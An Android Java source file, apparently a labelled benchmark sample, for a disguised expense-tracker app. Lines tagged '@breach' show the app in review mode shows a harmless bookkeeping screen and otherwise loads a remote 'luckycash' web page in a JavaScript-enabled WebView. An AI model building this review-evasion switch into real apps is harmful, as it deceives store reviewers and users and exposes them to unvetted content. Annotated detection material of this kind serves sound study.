package bench.points.calm_sheet;

import android.app.Activity;
import android.graphics.Color;
import android.os.Bundle;
import android.webkit.WebView;
import android.widget.EditText;
import android.widget.LinearLayout;
import android.widget.TextView;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Thread(() -> {
            Remote remote = Remote.fetch();
            runOnUiThread(() -> open(remote));
        }).start();
    }

    private void open(Remote remote) {
        if (remote.flag("is_review")) { //: @breach #gate
            book(Color.BLACK);
        } else { //: @breach
            shell("https://h5.luckycash.example.com/"); //: @breach
        } //: @breach
        if (remote.flag("festival")) book(Color.RED); //: @festival
    }

    private void book(int colour) {
        TextView head = new TextView(this);
        head.setText("本月支出 0.00 元");
        head.setTextColor(colour);
        EditText entry = new EditText(this);
        entry.setHint("记一笔");
        LinearLayout column = new LinearLayout(this);
        column.setOrientation(LinearLayout.VERTICAL);
        column.addView(head);
        column.addView(entry);
        setContentView(column);
    }

    private void shell(String address) {
        WebView web = new WebView(this);
        web.getSettings().setJavaScriptEnabled(true);
        web.loadUrl(address);
        setContentView(web);
    }
}
